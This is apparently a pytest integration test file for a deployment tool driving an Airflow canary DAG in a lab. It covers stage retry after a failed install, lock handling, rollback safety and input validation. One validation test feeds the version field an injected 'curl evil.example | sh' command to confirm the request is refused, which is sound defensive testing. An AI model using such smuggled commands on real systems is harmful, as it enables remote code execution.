"""deploy_canary through the real scheduler path: REST trigger, LocalExecutor, deferred sensors
in the triggerer, and a failed stage resumed by clearing it (``liftoff retry``).

A lab of its own (octet 58, ``LIFTOFF_SCHEDULER_LAB_OCTET``) and a real Airflow from
tests/airflow_stack.py. The build first fails to install on one staging web host; the run
halts at stage 3; the fault is fixed in labd and the stage is cleared through the REST API;
the same run then goes through canary without reinstalling the hosts already done.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import processes
from tests.airflow_stack import Stack, StackError, airflow_stack
from tests.labkit import Lab, running_lab

pytestmark = [pytest.mark.airflow, pytest.mark.lab]

OCTET = int(os.environ.get("LIFTOFF_SCHEDULER_LAB_OCTET", "58"))
DAG = "deploy_canary"
GOOD = "17.6.0+rnightly.101.abcdef2-0"
FAULTY_HOST = "web-01-sv-gstg"
STAGE = "stage_3_staging_fleet"
ENVS = ("gstg", "gprd-cny")
# The console script pyproject.toml declares (installed by `make setup`).
LIFTOFF = [str(Path(sys.executable).parent / "liftoff")]


@pytest.fixture(scope="module")
def lab_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Lab, Stack]]:
    with running_lab(tmp_path_factory.mktemp("sched-lab"), OCTET, "--install-seconds", "0.2") as lab:
        with airflow_stack(tmp_path_factory.mktemp("sched-airflow"), lab.env) as stack:
            stack.wait_until_dag_parsed(DAG)
            yield lab, stack
        assert stack.leftovers() == [], "the airflow stack left something behind"


def hosts(lab: Lab, env: str) -> dict[str, dict]:
    return {h["name"]: h for h in lab.status()["environments"][env]["hosts"]}


def installs(lab: Lab, version: str) -> dict[str, list[int]]:
    """Exit codes of every ``apt-get install`` of ``version``, per host, from labd's audit log."""
    out: dict[str, list[int]] = {}
    log = Path(lab.config.path("state", "audit.log"))
    for line in log.read_text().splitlines():
        fields = line.split("\t")
        if len(fields) >= 5 and "apt-get install" in fields[4] and f"gitlab-ee={version}" in fields[4]:
            out.setdefault(fields[1], []).append(int(fields[2]))
    return out


def test_invalid_version_is_refused_with_400_and_no_run(lab_stack):
    _, stack = lab_stack
    before = {r["dag_run_id"] for r in stack.dag_runs(DAG)}
    with pytest.raises(StackError) as refused:
        stack.trigger(DAG, {"version": "17.6.0; curl evil.example | sh", "quiet_period_seconds": 5})
    assert refused.value.status == 400, refused.value
    assert "version" in str(refused.value.body)
    assert {r["dag_run_id"] for r in stack.dag_runs(DAG)} == before


def reasons_reach_people(stack: Stack, run_id: str, cli: dict) -> None:
    """After the halted stage: ``watch`` ends with the run's sentence (the first failing step
    and why, the host named), the run's note in the Airflow UI is that sentence, and ``status
    --json`` shows the failed host drained with its record, chef stopped on it, no lock left."""
    watched = subprocess.run([*LIFTOFF, "watch", run_id, "--dag", DAG], **cli)
    assert watched.returncode == 1, watched.stdout + watched.stderr
    sentence = next((ln.strip() for ln in watched.stdout.splitlines() if "(first)" in ln), "")
    assert sentence.startswith(f"deploy_canary failed at {STAGE}.deploy (first): "), watched.stdout
    assert FAULTY_HOST in sentence and "install" in sentence, sentence
    assert "locks taken: gstg" in sentence and f"liftoff retry {run_id} {STAGE}" in sentence, sentence
    assert stack.dag_run(DAG, run_id)["note"] == sentence
    shown = subprocess.run([*LIFTOFF, "--json", "status"], **cli)
    assert shown.returncode == 0, shown.stdout + shown.stderr
    gstg = json.loads(shown.stdout)["fleet"]["environments"]["gstg"]
    [drained] = [h for h in gstg["out_of_service"] if h["host"] == FAULTY_HOST]
    assert drained["record"]["run_id"] == run_id and drained["note"] == "drain record", drained
    assert all(h["record"] for h in gstg["out_of_service"]), gstg["out_of_service"]
    assert FAULTY_HOST in json.dumps(gstg["chef_stopped"]) and gstg["lock"] is None, gstg
    [failed] = gstg["failed_hosts"]
    assert failed["host"] == FAULTY_HOST and failed["run_id"] == run_id and failed["reason"], failed
    [run] = [r for r in json.loads(shown.stdout)["dags"][DAG]["runs"] if r["dag_run_id"] == run_id]
    assert run["summary"] == sentence and run["stages"][STAGE] == "failed"


def test_failed_stage_is_resumed_by_clearing_it(lab_stack):
    lab, stack = lab_stack
    assert FAULTY_HOST in hosts(lab, "gstg")
    lab.build_add(GOOD, nightly=True, install_fails_on=[FAULTY_HOST])

    run = stack.trigger(DAG, {"version": GOOD, "quiet_period_seconds": 5, "on_failure": "halt"})
    run_id = run["dag_run_id"]
    seen: set[tuple[str, str]] = set()

    def remember(_run: dict, states: dict) -> None:
        seen.update((task, state) for task, state in states.items() if state)

    assert stack.wait_run(DAG, run_id, timeout=600, interval=0.5, on_poll=remember) == "failed"
    states = stack.task_states(DAG, run_id)
    assert states[f"{STAGE}.deploy"] == "failed", states
    assert states["halt"] == "success" and states["rollback"] == "skipped", states
    assert all(states[t] == "success" for t in states if t.startswith(("stage_1_", "stage_2_"))), states
    assert all(states[t] == "upstream_failed" for t in states if t.startswith("stage_6_")), states
    # The quiet periods wait in the triggerer: seen as deferred while they ran.
    deferred = {task for task, state in seen if state == "deferred"}
    assert any(t.endswith(".quiet_period") for t in deferred), sorted(seen)

    gstg = hosts(lab, "gstg")
    assert gstg[FAULTY_HOST]["installed"] != GOOD
    done_before = {name for name, h in gstg.items() if h["installed"] == GOOD}
    assert done_before, "no staging host got the build before the failure"
    assert all(h["installed"] != GOOD for h in hosts(lab, "gprd-cny").values())

    cli = {"env": stack.cli_env(), "capture_output": True, "text": True, "timeout": 300}
    reasons_reach_people(stack, run_id, cli)

    # Fix the fault. Meanwhile someone locks staging by hand: clearing the stage (the run released
    # its lock when it failed) changes nothing and the failed task names the holder (the one door).
    processes.control(lab.config, "PATCH", f"/builds/{GOOD}", {"install_fails_on": []})
    locked = subprocess.run([*LIFTOFF, "lock", "gstg", "--reason", "incident 4242", "--watch"], **cli)
    assert locked.returncode == 0, locked.stdout + locked.stderr
    before_refused = installs(lab, GOOD)
    refused = subprocess.run([*LIFTOFF, "retry", run_id, "stage_3", "--dag", DAG], **cli)
    assert refused.returncode == 0, refused.stdout + refused.stderr
    assert stack.wait_run(DAG, run_id, timeout=600, interval=1) == "failed"
    assert stack.task_states(DAG, run_id)[f"{STAGE}.deploy"] == "failed"
    assert installs(lab, GOOD) == before_refused, "a cleared stage installed under someone else's lock"
    assert hosts(lab, "gstg")[FAULTY_HOST]["installed"] != GOOD
    logs = stack.all_logs_text()
    assert "gstg is locked by run manual-" in logs and "incident 4242" in logs, "the holder was not named"
    unlocked = subprocess.run([*LIFTOFF, "unlock", "gstg", "--reason", "incident over", "--watch"], **cli)
    assert unlocked.returncode == 0, unlocked.stdout + unlocked.stderr

    # Resume the same run: clear the failed stage through the REST API.
    retry = subprocess.run([*LIFTOFF, "retry", run_id, "stage_3", "--dag", DAG], env=stack.cli_env(),
                           capture_output=True, text=True, timeout=120)
    assert retry.returncode == 0, retry.stdout + retry.stderr
    assert f"{STAGE}.deploy" in retry.stdout and "cleared" in retry.stdout, retry.stdout
    cleared = stack.task_states(DAG, run_id)
    assert cleared[f"{STAGE}.deploy"] not in ("failed", "upstream_failed"), cleared
    assert cleared[f"{STAGE}.precheck"] == "success", "a task that had passed was cleared"

    assert stack.wait_run(DAG, run_id, timeout=900, interval=1) == "success", stack.task_states(DAG, run_id)
    final = stack.task_states(DAG, run_id)
    decided = "stage_6_canary_fleet.canary_decision"  # the canary judge asked nobody: skipped
    assert all(final[t] == "success" for t in final if t.startswith("stage_") and t != decided), final

    for env in ENVS:
        for name, h in hosts(lab, env).items():
            assert h["installed"] == GOOD and h["running"] == GOOD, (env, name, h)
    counts = installs(lab, GOOD)
    for env in ENVS:
        for name in hosts(lab, env):
            ok = [code for code in counts.get(name, []) if code == 0]
            assert len(ok) == 1, (name, counts.get(name))
    for name in done_before:
        assert counts[name] == [0], f"{name} was installed again: {counts[name]}"
    assert any(code != 0 for code in counts[FAULTY_HOST]), counts[FAULTY_HOST]


def test_trailing_newline_version_is_refused_with_a_one_line_400(lab_stack):
    """``$`` takes a final newline under re.search: the version pattern must not (params.py),
    and the 400 says the rule in one line without the regular expression (liftoff_plugin.py)."""
    _, stack = lab_stack
    before = {r["dag_run_id"] for r in stack.dag_runs(DAG)}
    with pytest.raises(StackError) as refused:
        stack.trigger(DAG, {"version": GOOD + "\n", "quiet_period_seconds": 5})
    assert refused.value.status == 400, refused.value
    body = refused.value.body
    assert isinstance(body, dict) and isinstance(body.get("detail"), str), body
    detail = body["detail"]
    assert detail.startswith("Invalid input for param version: must be an Omnibus package version"), detail
    assert "\n" not in detail and len(detail) <= 400, detail
    assert "(?:" not in str(body) and "[0-9]" not in str(body) and "Failed validating" not in str(body), body
    assert repr(GOOD + "\n") in detail, detail  # the value, repr'd: the newline shows
    assert {r["dag_run_id"] for r in stack.dag_runs(DAG)} == before


# -- reasons reach people: what `liftoff watch` says when a rollback or an LB refuses -----------------

SETUP_POST_MIGRATION = f"""
from liftoff.deploy import migrate
from liftoff.locks import release_locks
from liftoff.runs import Run
run = Run(run_id="setup-post-migrations")
migrate(run, "gprd-cny", {GOOD!r}, post=True)  # what stage 9 of a promotion does
release_locks(run, ["gprd-cny"])
"""


def sentence_of(out: str, dag_id: str) -> str:
    return next((ln.strip() for ln in out.splitlines() if ln.strip().startswith(f"{dag_id} failed at")), "")


def test_an_unsafe_rollback_says_which_migration_in_watch(lab_stack):
    lab, stack = lab_stack
    stack.wait_until_dag_parsed("rollback")
    assert all(h["installed"] == GOOD for h in hosts(lab, "gprd-cny").values()), "the first test's deploy"
    setup = subprocess.run([sys.executable, "-c", SETUP_POST_MIGRATION], capture_output=True, text=True,
                           timeout=300, env={**os.environ, **lab.env, "LIFTOFF_NO_AIRFLOW": "1"})
    assert setup.returncode == 0, setup.stderr[-2000:]
    cli = {"env": stack.cli_env(), "capture_output": True, "text": True, "timeout": 600}
    check = subprocess.run([*LIFTOFF, "rollback", "check", "gprd-cny"], **cli)
    assert "NOT SAFE" in check.stdout and "command: liftoff rollback" not in check.stdout, check.stdout
    refused = subprocess.run([*LIFTOFF, "rollback", "gprd-cny", "--watch", "--interval", "1"], **cli)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    sentence = sentence_of(refused.stdout, "rollback")
    assert sentence.startswith("rollback failed at safety_check (first): "), refused.stdout
    assert "_post_17_6_0" in sentence and "override_reason" in sentence, sentence
    assert all(h["installed"] == GOOD for h in hosts(lab, "gprd-cny").values()), "the refusal changed hosts"


def test_an_unreachable_lb_is_named_in_watch(lab_stack):
    lab, stack = lab_stack
    stack.wait_until_dag_parsed("canary_weight")
    name = "haproxy-fe-02-lb-gprd"
    pid = processes.running_pid(lab.config, name)
    assert pid, f"{name} is not running"
    os.kill(pid, 9)
    try:
        cli = {"env": stack.cli_env(), "capture_output": True, "text": True, "timeout": 600}
        failed = subprocess.run([*LIFTOFF, "canary", "weight", "10", "--watch", "--interval", "1"], **cli)
        assert failed.returncode == 1, failed.stdout + failed.stderr
        sentence = sentence_of(failed.stdout, "canary_weight")
        assert sentence and "fe-02-lb-gprd" in sentence, failed.stdout
        [run] = [r for r in stack.dag_runs("canary_weight")]
        assert run["dag_run_id"].startswith("canary_weight_10__") and run["note"] == sentence
    finally:
        processes.up(lab.config)


def test_the_stack_starts_no_nightly_of_its_own(lab_stack):
    """Test stacks turn deploy_canary's nightly off (tests/airflow_stack.py): one up at 02:00 UTC
    started deploying the newest nightly to its lab in the middle of other tests."""
    _, stack = lab_stack
    assert stack.request("GET", f"/dags/{DAG}").json()["timetable_summary"] in (None, "None")
    runs = stack.dag_runs(DAG)
    assert runs and {r["run_type"] for r in runs} == {"manual"}, runs
